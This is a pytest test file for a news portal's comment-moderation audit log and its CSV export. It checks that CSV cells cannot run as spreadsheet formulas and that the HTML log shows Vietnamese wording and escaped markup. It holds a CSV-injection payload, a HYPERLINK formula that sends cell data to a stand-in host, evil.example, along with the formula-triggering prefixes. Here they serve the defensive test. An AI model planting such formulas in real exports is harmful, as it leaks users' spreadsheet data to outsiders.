"""The moderation audit log and its CSV speak in words, and no cell of the CSV (opened in a
spreadsheet) may run as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from bs4 import BeautifulSoup

from newsportal.comments import moderation
from newsportal.comments.moderation import _csv_safe
from newsportal.extensions import db
from newsportal.models import Comment, CommentAudit, User

from .comment_helpers import comment_data, comments
from .conftest import get_user

FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"Xem")'
PREFIXES = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage return": "\r",
    "line feed": "\n",
    "full-width equals": "\uff1d",
    "full-width plus": "\uff0b",
    "full-width minus": "\uff0d",
    "full-width at": "\uff20",
    "space then equals": " =",
    "ideographic space then full-width equals": "\u3000\uff1d",
    "tab then equals": "\t=",
}


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip()[:1] in tuple("=+-@＝＋－＠")


@pytest.fixture
def decided(app, auth, make_article):
    """One comment rejected by a signed-in moderator: an audit row with a name and a reason."""
    article = make_article("Lấy ý kiến về dự thảo", body="Nội dung.")
    response = app.test_client().post(
        f"/articles/{article.slug}/comments", data=comment_data(app, body="Ý kiến")
    )
    assert response.status_code == 302
    auth.as_role("moderator")
    with app.app_context():
        actor = get_user(app, "moderator@example.org")
        moderation.set_status([comments(app)[0].id], "reject", actor.id, "Lạc đề")
        return actor.id


def export(client) -> list[dict[str, str]]:
    text = client.get("/moderation/audit.csv").get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("prefix", list(PREFIXES.values()), ids=list(PREFIXES))
@pytest.mark.parametrize("column", ["by", "reason"])
@pytest.mark.sqlite_only(
    "the cell escaping is Python's; text round trips are tested in test_forbidden_characters"
)
def test_no_cell_of_the_audit_csv_runs_as_a_formula(app, auth, decided, column, prefix):
    hostile = prefix + FORMULA
    with app.app_context():  # as an older version or an import may have stored it
        if column == "by":
            db.session.get(User, decided).email = hostile
        else:
            audit = db.session.scalars(db.select(CommentAudit).filter_by(actor_id=decided))
            audit.one().reason = hostile
        db.session.commit()
    rows = export(auth.client)
    (row,) = [r for r in rows if r["by"] != "Hệ thống"]
    assert row[column] == "'" + hostile  # kept whole, readable, inert
    assert [cell for r in rows for cell in r.values() if runs_as_formula(cell)] == []


@pytest.mark.parametrize(
    "value", ["", "Lạc đề", "moderator@example.org", "2026-12-01T08:00:00+00:00", "12", "a=b"]
)
def test_ordinary_cells_are_left_as_they_are(value):
    assert _csv_safe(value) == value


@pytest.mark.parametrize("prefix", list(PREFIXES.values()), ids=list(PREFIXES))
def test_one_helper_guards_every_prefix(prefix):
    assert _csv_safe(prefix + "1+1") == "'" + prefix + "1+1"


LONG = "<b>Đậm</b> " + " ".join(["ý kiến"] * 40)
VN_TIME = re.compile(r"^\d{2}:\d{2} - \d{2}/\d{2}/\d{4}$")


def test_the_audit_log_speaks_in_words(app, auth, decided):
    with app.app_context():  # a long comment with markup typed in it
        comment = db.session.scalars(db.select(Comment)).one()
        comment.body = LONG
        comment_id = comment.id
        db.session.commit()
    page = BeautifulSoup(auth.client.get("/moderation/audit").get_data(as_text=True), "html5lib")
    rows = page.select("tr.audit-row")
    cells = [[td.get_text(" ", strip=True) for td in row.select("td")] for row in rows]
    decision = cells[0]  # newest first: the moderator's rejection, then the system's row
    assert VN_TIME.match(decision[0])
    assert decision[1].startswith(f"#{comment_id} <b>Đậm</b> ý kiến ý kiến")
    assert decision[1].endswith("…")
    assert len(decision[1]) < 100
    assert rows[0].select("b") == []  # the words typed, escaped
    # the action's name, with its undo button while it can be undone
    assert decision[2:] == [
        "Lấy ý kiến về dự thảo",
        "Chờ duyệt",
        "Đã từ chối",
        "Từ chối Hoàn tác",
    ] + [
        "Người moderator",
        "Lạc đề",
    ]
    assert cells[1][3:7] == ["—", "Chờ duyệt", "—", "Hệ thống"]
    codes = {"pending", "approved", "rejected", "spam"}
    assert codes.isdisjoint(td for row in cells for td in row)
    options = [o.get_text() for o in page.select("#a-status option")]
    assert options == ["Tất cả", "Chờ duyệt", "Đã duyệt", "Đã từ chối", "Thư rác"]


def test_the_csv_carries_vietnam_time_with_its_offset_and_the_same_words(app, auth, decided):
    rows = export(auth.client)
    with app.app_context():
        audit = db.session.scalars(db.select(CommentAudit).filter_by(actor_id=decided)).one()
        local = audit.created_at.astimezone(ZoneInfo("Asia/Ho_Chi_Minh"))
    (row,) = [r for r in rows if r["by"] != "Hệ thống"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00", row["time"])
    assert datetime.fromisoformat(row["time"]) == local.replace(microsecond=0)
    assert (row["from"], row["to"], row["action"]) == ("Chờ duyệt", "Đã từ chối", "Từ chối")
    assert (row["article"], row["comment"], row["reason"]) == (
        "Lấy ý kiến về dự thảo",
        "Ý kiến",
        "Lạc đề",
    )
    assert row["action_id"].isdigit()
